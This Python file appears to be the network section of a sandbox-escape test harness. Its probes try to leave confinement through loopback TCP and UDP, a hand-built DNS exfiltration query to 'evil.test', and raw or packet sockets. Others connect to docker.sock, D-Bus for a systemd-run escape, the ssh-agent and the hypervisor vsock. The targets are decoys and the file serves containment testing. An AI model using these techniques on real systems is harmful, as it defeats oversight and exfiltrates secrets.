"""N: ways out over sockets."""
from frame import *

# ---- N: network
def conn(fam, typ, addr, proto=0, data=b"rt-hit\n"):
    s = socket.socket(fam, typ, proto); s.settimeout(2); s.connect(addr); s.send(data); return f"connected {addr}"
@probe("N01", "TCP connect to host loopback service (gateway)")
def _(): try_(conn, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", C["tcp"]))
@probe("N02", "UDP datagram to host loopback")
def _():
    try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"rt-udp-N02", ("127.0.0.1", C["udp"]))
    except OSError as e: den(en(e.errno))
    out("DENIED", "host-checked")
@probe("N03", "DNS exfil: query <secret>.evil.test to (decoy) resolver over UDP")
def _():
    q = struct.pack(">HHHHHH", 0x1234, 0x100, 1, 0, 0, 0) + b"\x09rt-secret\x04evil\x04test\x00" + struct.pack(">HH", 1, 1)
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", C["udp"]))
    except OSError as e: den(en(e.errno))
    out("DENIED", "host-checked")
@probe("N06", "raw ICMP socket")
def _(): try_(lambda: (socket.socket(socket.AF_INET, socket.SOCK_RAW, 1), "created")[1])
@probe("N07", "AF_PACKET sniffing socket")
def _(): try_(lambda: (socket.socket(17, socket.SOCK_RAW, socket.htons(3)), "created")[1])
@probe("N09", "AF_VSOCK socket to hypervisor (create only)")
def _(): try_(lambda: (socket.socket(40, socket.SOCK_STREAM, 0), "created")[1])
@probe("N10", "exotic families (ALG, BT, CAN, TIPC, RDS, X25, KCM, QIPCRTR, XDP, SMC)")
def _():
    g = []
    for f in range(3, 46):
        if f in (10, 16, 17, 40): continue
        for t in (1, 2, 3, 5):
            r, e = sc(41, f, t, 0)
            if r >= 0: g.append(f); os.close(r); break
    esc(g) if g else den()
@probe("N11", "connect to supervisor's unix socket (pathname)")
def _(): try_(conn, socket.AF_UNIX, socket.SOCK_STREAM, C["usock"])
@probe("N12", "connect to (decoy) docker.sock")
def _(): try_(conn, socket.AF_UNIX, socket.SOCK_STREAM, C["docker"])
@probe("N13", "connect to (decoy) D-Bus session bus -> systemd-run escape")
def _(): try_(conn, socket.AF_UNIX, socket.SOCK_STREAM, C["dbus"])
@probe("N14", "use ssh-agent socket (SSH_AUTH_SOCK or known path)")
def _(): try_(conn, socket.AF_UNIX, socket.SOCK_STREAM, os.environ.get("SSH_AUTH_SOCK") or C["ssh"])
@probe("N16", "unix datagram sendto without connect (syslog/notify socket)")
def _():
    try: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"rt-dgram", C["dsock"])
    except OSError as e: den(en(e.errno))
    out("DENIED", "host-checked")
@probe("N17", "listen on TCP port reachable from host")
def _():
    try: s = socket.socket(); s.bind(("127.0.0.1", C["lport"])); s.listen(1)
    except OSError as e: den(en(e.errno))
    s.settimeout(3)
    try: s.accept(); esc("host reached it")
    except OSError: den("host could not reach it")
@probe("N19", "cloud metadata / LAN route present (no packet sent)")
def _():
    try: r = rd("/proc/net/route").decode().splitlines()[1:]
    except OSError as e: den(en(e.errno))
    esc(f"{len(r)} routes, default present" if any(x.split()[1] == "00000000" for x in r) else f"{len(r)} routes") if r else den("no routes")
